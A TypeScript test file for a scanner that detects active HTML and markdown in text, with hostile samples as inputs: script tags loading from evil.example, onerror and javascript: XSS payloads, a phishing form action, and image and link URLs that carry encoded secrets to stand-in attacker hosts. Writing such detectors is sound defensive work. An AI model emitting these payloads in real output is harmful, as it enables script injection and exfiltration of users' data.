import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createMarkupScanner, findMarkup } from './markup.js';

const types = (t: string) => findMarkup(t).map((f) => f.type);

describe('markup scanner', () => {
  it('finds active markup', () => {
    assert.deepEqual(types('Here: <script>fetch("/x")</script>'), ['script']);
    assert.deepEqual(types('<SCRIPT src=//evil.example/a.js></SCRIPT>'), ['script']);
    assert.deepEqual(types('<iframe src="https://evil.example"></iframe>'), ['frame']);
    assert.deepEqual(types('<div onmouseover="steal()">hi</div>'), ['event_handler']);
    assert.deepEqual(types('<img src=x onerror=alert(1)>'), ['event_handler']);
    assert.deepEqual(types('<form action="https://evil.example/login"><input name=p></form>'), ['form']);
    assert.deepEqual(types('[click](javascript:alert(1))'), ['script_url']);
    assert.deepEqual(types('[click](java\tscript:alert(1))'), ['script_url'], 'tabs inside the scheme');
    assert.deepEqual(types('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'), ['script_url']);
  });

  it('scores external images by what their URL carries', () => {
    const [plain] = findMarkup('![logo](https://cdn.example.com/logo.png)');
    const [query] = findMarkup('![x](https://img.example.com/p.png?size=2)');
    const [exfil] = findMarkup('![x](https://collect.evil.example/p.png?d=c2VjcmV0LXRva2VuLXZhbHVlLTEyMzQ1)');
    assert.deepEqual([plain?.score, query?.score, exfil?.score], [0.6, 0.8, 0.95]);
    assert.equal(exfil?.label, 'markup.image');
    assert.match(String(exfil?.evidence), /collect\.evil\.example/);
    const [img] = findMarkup('<img src="https://t.evil.example/a/QUtJQVEzWlQ3V1hLMk1MUDRSTjY">');
    assert.equal(img?.score, 0.95);
  });

  it('a link carrying an encoded value is an exfil link; ordinary links are not findings', () => {
    assert.deepEqual(types('[docs](https://docs.example.com/guide?page=2)'), []);
    assert.deepEqual(types('[report](https://evil.example/c?q=U0VDUkVUX0NBTkFSWV9WQUxVRQ)'), ['exfil_link']);
    assert.deepEqual(types('![diagram](./local.png)'), [], 'relative images load from the same site');
  });

  it('hard negatives: prose and code about HTML', () => {
    assert.deepEqual(types('Use the <b>bold</b> tag and a < b comparison; the "onclick" attribute is deprecated.'), []);
    assert.deepEqual(types('if (a<b && c > d) { one = 1 }'), []);
    assert.deepEqual(types('The word javascript: a language.'), ['script_url'], 'a scheme in prose is still reported (score 0.9)');
  });

  it('spans cover the item; flagged at the threshold', () => {
    const text = 'see <script>x()</script> end';
    const r = createMarkupScanner().scan(text);
    assert.equal(r.flagged, true);
    assert.equal(text.slice(r.findings[0]?.start, r.findings[0]?.end), '<script>x()</script>', 'up to the closing tag');
  });

  it('case-insensitive on the original text; spans stay right after characters that lower-case longer', () => {
    assert.deepEqual(types('<DiV OnMouseOver="x()">'), ['event_handler']);
    assert.deepEqual(types('<IMG SRC="HTTPS://t.example/p.png?a=1">'), ['image']);
    assert.deepEqual(types('<a href="DATA:\tTEXT/HT\nML,<b>">'), ['script_url']);
    assert.deepEqual(types('[x](VBScript:msgbox(1))'), ['script_url']);
    assert.deepEqual(types('javascript\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t:x'), [], 'too spread out');
    assert.deepEqual(types('myjavascript:x'), [], 'inside a word');
    const text = 'İİİ <script>x()</SCRIPT > İ';
    const [f] = findMarkup(text);
    assert.equal(text.slice(f?.start, f?.end), '<script>x()</SCRIPT >');
    const long = `${'İ'.repeat(1000)} <img src="https://t.example/x.png?q=1">`;
    const [g] = findMarkup(long);
    assert.equal(long.slice(g?.start, g?.end), '<img src="https://t.example/x.png?q=1">');
  });

  it('linear in the length of long text with non-ASCII letters (speed itself is in the benchmark)', () => {
    const chunk = 'Straße İstanbul <b>bold</b> [a](https://x.example/p) and: notes; ';
    const text = chunk.repeat(Math.ceil(2_000_000 / chunk.length));
    const small = text.slice(0, 100_000);
    findMarkup(small);
    const time = (t: string) => {
      const t0 = process.hrtime.bigint();
      findMarkup(t);
      return Number(process.hrtime.bigint() - t0) / 1e6;
    };
    const smallMs = Math.max(time(small), time(small), 0.5);
    const bigMs = time(text);
    // 20x the text: linear work takes about 20x the time; a quadratic path would take about 400x.
    assert.ok(bigMs < 100 * smallMs, `${bigMs.toFixed(0)} ms for 2 MB against ${smallMs.toFixed(1)} ms for 100 KB`);
  });

  it('linear on hostile input (100 KB)', () => {
    for (const s of [
      '<'.repeat(100_000),
      '<a on'.repeat(20_000),
      '](h'.repeat(33_000),
      '![x](https://e.x/?'.repeat(5000),
      'javascript'.repeat(10_000),
      '<img src='.repeat(11_000),
      `${'<script</script'.repeat(6000)}>`,
      `${'<form</iframe'.repeat(7000)}>`,
      '\t\t\t:'.repeat(25_000),
      'data:\t'.repeat(16_000),
      '<img '.repeat(20_000),
      'İ<on'.repeat(25_000),
    ]) {
      const t0 = process.hrtime.bigint();
      findMarkup(s);
      assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 1000, `slow on ${s.slice(0, 12)}…`);
    }
  });
});
